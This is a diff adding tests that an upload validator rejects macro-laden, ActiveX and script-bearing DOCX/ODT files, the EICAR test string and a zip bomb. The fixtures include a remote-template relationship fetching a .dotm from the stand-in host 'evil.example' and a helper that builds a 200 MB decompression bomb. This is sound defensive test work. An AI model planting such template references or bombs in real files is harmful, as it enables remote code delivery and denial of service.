@@ -171,3 +171,60 @@ def test_a_long_form_without_files_is_not_taken_for_a_large_upload(client, focal
                            data={"q_prot_description": "x" * 600_000})
     assert response.status_code == 422
     assert field_errors(response.text) == ["Use at most 20000 characters (you used 600000)."]
+
+
+DOCX_PARTS = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+ODT_PARTS = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"}
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+MACROS = "contains macros or ActiveX controls"
+
+
+def _bomb(expanded: int) -> bytes:
+    """A DOCX whose one part of zeros expands to ``expanded`` bytes (about a thousandth compressed)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, content in DOCX_PARTS.items():
+            archive.writestr(name, content)
+        with archive.open("word/media/image1.bin", "w", force_zip64=True) as part:
+            zeros = bytes(1024 * 1024)
+            for _ in range(expanded // len(zeros)):
+                part.write(zeros)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("content,name,complaint", [
+    (_zip({**DOCX_PARTS, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"}), "loi.docx", MACROS),
+    (_zip({**DOCX_PARTS, "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.document'
+                                                b'.macroEnabled.main+xml"/></Types>'}), "loi.docx", MACROS),
+    (_zip({**DOCX_PARTS, "word/activeX/activeX1.xml": b"<ax:ocx/>"}), "loi.docx", MACROS),
+    (_zip({**DOCX_PARTS, "word/_rels/settings.xml.rels": b'<Relationship Type="http://schemas.openxmlformats.org/'
+                                                         b'officeDocument/2006/relationships/attachedTemplate" Target='
+                                                         b'"https://evil.example/t.dotm" TargetMode="External"/>'}),
+     "loi.docx", MACROS),
+    (_zip({**ODT_PARTS, "Basic/Standard/Module1.xml": b"<script:module/>"}), "loi.odt", MACROS),
+    (_zip({**ODT_PARTS, "content.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:Standard.M.Run"/>'}),
+     "loi.odt", MACROS),
+    (EICAR, "eicar.txt", "signature of a malware test file"),
+    (_zip({**DOCX_PARTS, "word/media/eicar.txt": EICAR}), "loi.docx", "signature of a malware test file"),
+])
+def test_macros_activex_and_the_eicar_string_are_refused(client, focal, cycle, content, name, complaint):
+    response = _upload(client, cycle, content, name)
+    assert response.status_code == 422 and any(complaint in error for error in field_errors(response.text))
+    assert _laws()[0]["title"] == "Code pénal"  # the answers are saved all the same
+    assert db.session.scalar(db.select(db.func.count()).select_from(Attachment)) == 0
+
+
+def test_a_small_docx_that_expands_to_200_mb_is_refused(client, focal, cycle):
+    bomb = _bomb(200 * 1024 * 1024)
+    assert len(bomb) < 250 * 1024
+    response = _upload(client, cycle, bomb, "loi.docx")
+    assert response.status_code == 422 and any("expands to far more" in e for e in field_errors(response.text))
+    assert db.session.scalar(db.select(db.func.count()).select_from(Attachment)) == 0
+
+
+def test_an_ordinary_docx_with_a_picture_is_kept(client, focal, cycle):
+    picture = bytes(range(256)) * 40  # barely compressible, like a real image
+    response = _upload(client, cycle, _zip({**DOCX_PARTS, "word/media/image1.png": picture,
+                                            "word/styles.xml": b"<w:styles/>" * 500}), "loi.docx")
+    assert response.status_code == 302
+    assert db.session.scalar(db.select(Attachment.media_type)) == DOCX.media_type
